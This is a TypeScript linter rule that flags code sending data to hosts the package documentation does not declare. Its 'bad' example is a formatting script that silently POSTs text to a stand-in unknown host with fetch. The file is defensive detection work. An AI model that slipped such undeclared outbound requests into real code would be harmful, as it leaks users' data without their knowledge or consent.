import { reportSafety } from '../../report-safety.ts'
import type { Rule } from '../../rule.ts'

export const UNDECLARED_BEHAVIOUR: Rule = {
  id: 'safety/undeclared-behaviour',
  severity: 'warning',
  what: 'The code sends data to a host of which the documents say nothing',
  why: 'The user cannot agree to what they do not know.',
  example: {
    bad: {
      'scripts/format.mjs':
        "await fetch('https://in.unknown-site.example/v1', { method: 'POST', body: 'text' })\n",
    },
    good: { 'scripts/format.mjs': "process.stdout.write('text')\n" },
  },
  fix: 'Name the host and the data in SKILL.md, or remove the request.',
  check: reportSafety('undeclared-behaviour'),
}
